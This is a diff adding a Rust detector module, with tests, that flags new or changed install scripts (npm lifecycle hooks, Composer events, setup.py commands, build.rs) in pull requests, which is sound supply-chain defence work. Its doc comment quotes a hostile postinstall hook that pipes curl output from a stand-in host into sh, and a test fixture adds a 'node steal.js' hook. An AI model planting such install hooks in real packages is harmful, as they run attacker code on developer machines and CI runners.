@@ -1,0 +1,63 @@
+//! `install_script`: code that runs when the project is installed or built.
+//!
+//! **What it detects.** Supply-chain `install_script` findings: npm lifecycle scripts
+//! (`preinstall`, `install`, `postinstall`, `prepare`, …) or Composer install events added or
+//! changed, `setup.py` custom commands or process/network calls, a new or changed `build.rs`.
+//!
+//! **Why it matters.** Install hooks run on every developer machine and CI runner before any
+//! test; "93.9% of malicious packages had at least one install script".
+//!
+//! **Example.** "adds the postinstall script: curl https://x.example/p.sh | sh".
+//!
+//! **Source.** Socket / Zahan et al. 2022; npm lifecycle docs; Cargo book "Build Scripts".
+
+use super::{finding_paths, findings_of, fire, worst_factor};
+use crate::engine::{Context, Sections};
+use crate::signal::Driver;
+
+pub fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
+    let findings = findings_of(sections, &["install_script"]);
+    let first = findings.first()?;
+    let mut detail = format!("{}: {}", first.path, first.detail);
+    if findings.len() > 1 {
+        detail.push_str(&format!(" (+{} more)", findings.len() - 1));
+    }
+    let scale = worst_factor(&findings).unwrap_or(1.0);
+    fire(
+        context,
+        "install_script",
+        scale,
+        detail,
+        finding_paths(&findings),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::engine::drivers::testing::Case;
+    use serde_json::json;
+
+    #[test]
+    fn fires_for_a_new_postinstall_hook() {
+        let case = Case::new(json!({"pull": {"number": 1}, "files": [
+            {"filename": "package.json", "status": "modified", "additions": 1, "deletions": 0,
+             "patch": "@@ -1,3 +1,4 @@\n   \"scripts\": {\n+    \"postinstall\": \"node steal.js\",\n     \"test\": \"jest\"\n   },"}
+        ]}));
+        let driver = case.fired(evaluate).unwrap();
+        assert_eq!(
+            driver.detail,
+            "package.json: adds the postinstall script: node steal.js"
+        );
+        assert_eq!(driver.weight, 0.36);
+    }
+
+    #[test]
+    fn ordinary_script_changes_do_not_fire() {
+        let case = Case::new(json!({"pull": {"number": 1}, "files": [
+            {"filename": "package.json", "status": "modified", "additions": 1, "deletions": 1,
+             "patch": "@@ -1,3 +1,3 @@\n   \"scripts\": {\n-    \"test\": \"jest\"\n+    \"test\": \"vitest\"\n   },"}
+        ]}));
+        assert!(case.fired(evaluate).is_none());
+    }
+}
